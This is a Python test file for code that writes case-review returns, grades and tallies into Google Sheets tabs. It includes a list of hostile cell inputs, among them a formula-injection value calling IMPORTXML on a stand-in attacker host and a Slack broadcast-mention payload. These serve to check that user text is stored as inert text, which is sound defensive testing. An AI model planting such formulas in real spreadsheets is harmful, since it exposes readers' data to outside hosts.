"""What the tabs say, as data and as people see it."""

from collections.abc import Sequence
from dataclasses import replace
from datetime import date, timedelta

import pytest

from audit.library.default import DEFAULT
from audit.scales import INSPECTION, THREE_STEP
from sandbox.sheets import Drive, Person
from sheets.drawing import draw
from sheets.drawing.words import CAVEAT
from sheets.tabs import HEADER, Column, Row, Tab
from sheets.text import CELL_LIMIT, clean, fit, parts
from tests.sheet.boards import DUE, NOW, answers, board, case, full, judged, made_of, sync
from tests.sheet.conftest import Sheet

HOSTILE = [
    '=IMPORTXML("https://evil.example","/")',
    "+44",
    "-1+1",
    "@SUM(A1)",
    "'quoted",
    "007",
    "1e5",
    "TRUE",
    "2026-03-09",
    "\tstarts with a tab",
    "two\nlines\r\nthree",
    "family \U0001f468\u200d\U0001f469\u200d\U0001f467 here",
    "\u05e9\u05dc\u05d5\u05dd right to left \u202e",
    "nul\x00 bell\x07 escape\x1b c1\x85",
    "lone \ud800 surrogate",
    "trailing space  ",
    "<!channel> <https://evil.example|x>",
]


def tab(tabs: Sequence[Tab], key: str) -> Tab:
    return next(one for one in tabs if one.key == key)


def cells(one: Tab, row_key: str) -> dict[str, object]:
    row = next(row for row in one.rows if row.key == row_key)
    return dict(zip([column.key for column in one.columns], row.values, strict=True))


def test_the_tabs_in_their_order() -> None:
    drawn = draw(board(), sync())
    titles = ["Read me", "Status", "Returns", "Tallies", "Actions", "What changed", "As ratified"]
    assert [one.title for one in drawn] == titles
    assert len({one.sheet_id for one in drawn}) == len(titles)


@pytest.mark.parametrize(
    ("state", "given", "seconds_over", "shown"),
    [
        ("requested", None, 0, "Awaited"),
        ("drafted", None, 0, "Awaited"),
        ("requested", None, 1, "Overdue"),
        ("nil", None, 1, "Nil"),
        ("declined", None, 1, "Declined"),
        ("submitted", answers("requires_improvement"), 1, "Requires improvement"),
        ("submitted", answers("not_graded", "other"), 0, "Not graded"),
    ],
)
def test_where_a_return_stands_is_one_of_the_fields_words(
    state: str,
    given: object,
    seconds_over: int,
    shown: str,
) -> None:
    one = case(1, "East", (("Police", "Police"),), {"T2-EAST-01 Police": given} if given else {})  # type: ignore[dict-item]
    one = replace(one, lines=(replace(one.lines[0], state=state),))
    whole = made_of((one,), replace(board().cycle, agencies=(("Police", "Police"),)))
    whole = replace(whole, now=DUE + timedelta(seconds=seconds_over))
    drawn = draw(whole, sync())
    assert cells(tab(drawn, "status"), one.id)["agency:Police"] == shown
    assert cells(tab(drawn, "returns"), one.lines[0].return_id)["grade"] == shown


def test_an_agency_that_is_not_involved_has_an_empty_cell() -> None:
    whole = board()
    cases = (replace(whole.cases[0], lines=whole.cases[0].lines[:2]), *whole.cases[1:])
    status = tab(draw(made_of(cases), sync()), "status")
    assert cells(status, cases[0].id)["agency:Health Providers"] == ""


def test_every_section_has_a_column_of_its_own() -> None:
    returns = tab(draw(full(1, 1), sync()), "returns")
    row = cells(returns, returns.rows[0].key)
    assert [key for key in row if key.startswith("section:")] == [f"section:{one.key}" for one in DEFAULT.sections]
    assert row["section:went_well"] == "They listened."
    assert row["section:immediate_action"] == "No"
    assert row["submitted_at"] == (date(2026, 3, 9) - date(1899, 12, 30)).days + 10 / 24


def test_a_setting_withholds_reflections_and_the_sheet_says_so(sheet: Sheet) -> None:
    whole = replace(full(3, 3), reflections=False)
    sheet.draw(full(3, 3))
    sheet.draw(whole, sync=sync(2))
    everything = str([sheet.look.grid(title) for title in sheet.look.titles])
    assert "They listened." not in everything
    assert "Because of what we saw." not in everything
    assert "Withheld" in everything
    assert "withheld from this sheet" in everything
    assert "Good" in everything


def test_a_sheet_for_others_says_sent_until_a_case_is_released(sheet: Sheet) -> None:
    whole = full(3, 3)
    released = tuple(replace(one, released_at=NOW if one.area == "East" else None) for one in whole.cases)
    sheet.draw(made_of(released, whole.cycle))
    for_others = replace(made_of(released, whole.cycle), unreleased=False)
    done = sheet.draw(for_others, sync=sync(2))
    assert done.drift == (), "it is ours to change"
    drawn = draw(for_others, sync())
    for one in released:
        assert (cells(tab(drawn, "status"), one.id)["agency:Education"] == "Sent") is (one.released_at is None)
        lines = [cells(tab(drawn, "returns"), line.return_id) for line in one.lines]
        assert {each["grade"] == "Sent" for each in lines} == {one.released_at is None}
        assert {bool(each["why"] or each["section:voice"]) for each in lines} == {one.released_at is not None}
    everything = cells(tab(drawn, "tallies"), "self:all")
    assert (everything["total"], cells(tab(drawn, "tallies"), "ratified:area:North")["total"]) == (3, 0)
    assert "1 of 3 cases; the others follow with their summaries." in str(sheet.look.grid("Tallies"))
    everywhere = str([sheet.look.grid(title) for title in sheet.look.titles])
    assert everywhere.count("They listened.") == 3
    assert not {"Generation", "Pending"} & {row.values[0] for row in tab(drawn, "read_me").rows}, (
        "they count every case"
    )
    sheet.draw(replace(for_others, unreleased=True), sync=sync(3))
    assert "Sent" not in str(sheet.look.grid("Status"))


def test_moments_are_london_s() -> None:
    summer = sync(at=DUE.replace(month=7))
    read_me = tab(draw(board(), summer), "read_me")
    assert cells(read_me, "last_sync")["says"] == "Sun 12 Jul 2026, 6 pm (London)"


def test_read_me_says_what_it_is_who_reads_it_and_what_the_words_mean() -> None:
    read_me = tab(draw(board(), replace(sync(7, pending=2), help_url="https://example.org/help")), "read_me")
    said = {row.values[0]: row.values[1] for row in read_me.rows}
    assert said["Generation"] == "7"
    assert said["Pending"] == "2 changes are still to come"
    assert said["Who can open it"] == "coordinator@example.org (owner)"
    assert said["Caveat"] == CAVEAT
    assert said["Help"] == "https://example.org/help"
    assert {"Outstanding", "Inadequate", "Not graded", "Awaited", "Overdue", "Nil", "Declined"} <= said.keys()


def test_tallies_are_audit_s_literals_ratified_and_self_apart() -> None:
    whole = judged(full(6, 3), "T2-EAST-01")
    tallies = tab(draw(whole, sync()), "tallies")
    everything = cells(tallies, "ratified:all")
    assert (everything["grade:inadequate"], everything["awaiting"], everything["total"]) == (1, 5, 6)
    own = cells(tallies, "self:all")
    assert own["total"] == 18
    assert own["grade:good"] == whole.tally.self_grades.grades["good"]
    assert {row.key for row in tallies.rows} >= {"self:agency:Education", "self:area:North", "ratified:area:East"}


def test_another_scale_has_its_own_columns_and_colours() -> None:
    whole = board()
    cycle = replace(whole.cycle, scale=THREE_STEP)
    drawn = draw(made_of(tuple(replace(one, scale=THREE_STEP) for one in whole.cases), cycle), sync())
    assert [one.header for one in tab(drawn, "tallies").columns[2:5]] == ["Good", "Adequate", "Inadequate"]
    assert "Adequate" in [rule.text for rule in tab(drawn, "status").rules]


def test_grades_and_statuses_have_their_colours(sheet: Sheet) -> None:
    whole = board(3, 3, {"T2-EAST-01 CSC": answers("inadequate"), "T2-EAST-01 Health": answers("good")})
    labels = {"inadequate": '=1+1&"x"', "good": "+Good"}  # conditions read what they are given as if it were typed
    grades = tuple(replace(each, label=labels.get(each.key, each.label)) for each in INSPECTION.grades)
    scale = replace(INSPECTION, grades=grades)
    cases = tuple(replace(case, scale=scale) for case in whole.cases)
    sheet.draw(made_of(cases, replace(whole.cycle, scale=scale)))
    grid = sheet.look.grid("Status")
    shown = {text: sheet.look.colour("Status", r, c) for r, line in enumerate(grid) for c, text in enumerate(line)}
    assert len({shown[text] for text in (*labels.values(), "Awaited", "T2-EAST-01")}) == 4
    assert shown["T2-EAST-01"] is None


def test_a_tab_reads_well(sheet: Sheet, person: Person) -> None:
    sheet.draw(full(15, 10))
    returns = person.tab("Returns")
    grid = returns.properties["gridProperties"]
    assert (grid["frozenRowCount"], grid["frozenColumnCount"]) == (1, 4)
    assert sheet.look.hidden("Returns", "COLUMNS") == [0, 1]
    assert [one["title"] for one in returns.lists["filterViews"]] == [
        "What is overdue", "Central returns", "East returns", "North returns",
    ]  # fmt: skip
    assert [one["warningOnly"] for one in returns.lists["protectedRanges"]] == [True]
    (chart, series), *_ = sheet.look.charts("Tallies")
    assert chart["spec"]["basicChart"]["stackedType"] == "STACKED"
    assert len(series) == 6


@pytest.mark.parametrize("text", HOSTILE)
def test_fault_19_20_21_whatever_people_write_is_text_and_settles(sheet: Sheet, text: str) -> None:
    whole = board(3, 3, {"T2-EAST-01 CSC": answers(voice=text)})
    sheet.draw(whole)
    row = next(row for row in sheet.rows("Returns").values() if row["Self-grade or status"] == "Good")
    assert row["Voice of the child"] == clean(text)
    done = sheet.draw(whole, sync=sync(2))
    assert (done.writes, done.drift) == (0, ())


def test_what_google_makes_of_a_character_is_no_quarrel(sheet: Sheet, drive: Drive) -> None:
    text = "'Cafe\u0301 with\ta tab,\u00a0a hard space,\u200b an unseen one  \nand spaces at ends"
    whole = board(3, 3, {"T2-EAST-01 CSC": answers(voice=text, learning="Before")})
    sheet.draw(whole)
    tab = drive.spreadsheet(sheet.key).book.sheet("Returns")
    for row, column, cell in list(tab.filled(tab.bounds())):
        if cell.get("userEnteredValue", {}).get("stringValue") == clean(text):
            changed = "Caf\u00e9 with a tab, a hard space, an unseen one\r\nand spaces at ends"
            tab.put(row, column, {"userEnteredValue": {"stringValue": changed}})
    assert "Caf\u00e9" in str(tab.cells)
    assert sheet.draw(whole, sync=sync(2)).writes == 0
    done = sheet.draw(board(3, 3, {"T2-EAST-01 CSC": answers(voice=text, learning="After")}), sync=sync(3))
    assert (done.writes, done.drift) == (1, ())


def test_a_text_that_no_cell_holds_is_shortened_with_a_pointer(sheet: Sheet) -> None:
    whole = board(3, 3, {"T2-EAST-01 CSC": answers(voice="\U0001f600" * 40_000)})
    sheet.draw(whole)
    row = next(row for row in sheet.rows("Returns").values() if row["Self-grade or status"] == "Good")
    assert row["Voice of the child"].endswith("[shortened: the whole text is in Slack, in the summary of T2-EAST-01]")
    assert sheet.draw(whole, sync=sync(2)).writes == 0


def test_a_shortened_text_fits_to_the_unit() -> None:
    for length in range(CELL_LIMIT - 3, CELL_LIMIT + 4):
        for text in ("x" * length, "x" + "\U0001f600" * (length // 2)):
            made = fit(text, "elsewhere")
            assert len(made.encode("utf-16-le")) // 2 <= CELL_LIMIT
            assert ("shortened" in made) == (len(text.encode("utf-16-le")) // 2 > CELL_LIMIT)


def test_a_long_text_is_parted_without_loss() -> None:
    text = "x" + "\U0001f600" * 60_000
    made = parts(text)
    assert "".join(made) == text
    assert all(len(one.encode("utf-16-le")) // 2 <= CELL_LIMIT for one in made)
    assert parts("") == [""]


@pytest.mark.parametrize("keys", [("a", "a"), ("", "b"), (HEADER, "b")])
def test_a_drawing_at_odds_with_itself_is_refused(keys: tuple[str, str]) -> None:
    with pytest.raises(ValueError, match="key"):
        Tab("t", "T", 1, (Column("a", "A"),), tuple(Row(key, ("x",)) for key in keys))
